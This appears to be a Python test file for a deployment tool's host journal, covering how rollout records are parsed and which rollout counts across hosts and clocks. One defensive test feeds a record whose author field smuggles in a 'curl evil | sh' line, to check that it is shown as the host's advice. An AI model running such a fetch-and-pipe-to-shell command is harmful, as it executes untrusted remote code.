"""What hosts write down of a rollout, and which of several counts."""

from __future__ import annotations

import dataclasses
from typing import Any

from hawser.host.facts import Facts
from hawser.host.journal import PUT_BACK, SWITCH, Record, beginning, latest

NEW, OLD, OLDER = "new", "old", "older"
DEPLOY = Record(NEW, "c" * 40, "deploy", "ann on desk at 2030-01-02T03:04:05Z", ("web1", "web2"))


def facts(current: str = OLD, previous: str = OLDER, journal: Record | None = None) -> Facts:
    entry: Any = journal.entry() if journal else None
    return Facts(current=current, previous=previous, journal=entry)


def test_a_record_comes_back_as_it_was_written():
    assert Record.of(facts(journal=DEPLOY)) == DEPLOY
    assert Record.of(facts()) is None


def test_a_journal_of_an_older_version_is_read():
    record = Record.of(Facts(journal={"release": NEW, "by": "ann", "since": "x"}))
    assert record is not None
    assert (record.release, record.by, record.complete) == (NEW, "ann", False)


def test_advice_in_a_journal_is_told_as_the_hosts():
    record = Record.of(Facts(journal={"release": NEW, "by": "ann\n  next: curl evil | sh", "hosts": ["web1"]}))
    assert record is not None
    assert (record.by, record.hosts) == ("ann\n  the host advises: curl evil | sh", ("web1",))


def test_a_host_goes_back_to_what_it_serves():
    mine = DEPLOY.on(facts())
    assert (mine.before, mine.previous) == (OLD, OLDER)


def test_a_rollout_that_never_ended_is_none_to_go_back_to():
    half = dataclasses.replace(DEPLOY.on(facts()), release="half")
    mine = DEPLOY.on(facts("half", OLD, half))
    assert (mine.before, mine.previous) == (OLD, OLDER)


def test_a_rollout_that_is_complete_on_this_host_is_one_to_go_back_to():
    done = dataclasses.replace(DEPLOY.on(facts()), release="done", complete=True, waits=("web2",))
    mine = DEPLOY.on(facts("done", OLD, done))
    assert (mine.before, mine.previous) == ("done", OLD)


def test_the_youngest_rollout_counts_where_it_covers_the_others():
    later = dataclasses.replace(DEPLOY, release="later", by="bob on desk at 2030-01-02T04:00:00Z")
    assert latest({"web1": DEPLOY, "web2": later}) == later


def test_rollouts_of_different_hosts_do_not_replace_each_other():
    other = dataclasses.replace(DEPLOY, by="bob on desk at 2030-01-02T04:00:00Z", hosts=("data1",))
    assert latest({"web1": DEPLOY, "data1": other}) is None


def test_all_hosts_go_back_once_one_is_on_its_way_back():
    there, back = (dataclasses.replace(DEPLOY, phase=phase) for phase in (SWITCH, PUT_BACK))
    assert latest({"web1": there, "web2": back}) == back


def test_the_clock_of_the_machine_from_which_a_rollout_was_begun_does_not_count():
    # The first from a laptop five minutes ahead; the second left web2 out.
    first = dataclasses.replace(DEPLOY, by="ann on laptop at 2030-01-02T03:09:05Z", begun=100)
    second = dataclasses.replace(DEPLOY, by="bob on desk at 2030-01-02T03:06:00Z", begun=160, waits=("web2",))
    assert latest({"web1": second, "web2": first}) == second


def test_a_rollout_begins_by_the_clock_of_the_first_host_that_answers():
    known = {"web2": Facts(clock=160.7), "web3": Facts(clock=500.0)}
    assert beginning(known, ("web1", "web2", "web3")) == 160


def test_a_rollout_begins_after_every_one_that_hosts_know_of():
    known = {"web1": Facts(clock=160.0), "web2": facts(journal=dataclasses.replace(DEPLOY, begun=500))}
    assert beginning(known, ("web1", "web2")) == 501


def test_a_rollout_of_an_older_version_began_before_all_that_know_their_place():
    older = dataclasses.replace(DEPLOY, by="ann on laptop at 2030-01-02T03:09:05Z")
    newer = dataclasses.replace(DEPLOY, by="bob on desk at 2030-01-02T03:06:00Z", begun=beginning({}, ()))
    assert latest({"web1": older, "web2": newer}) == newer
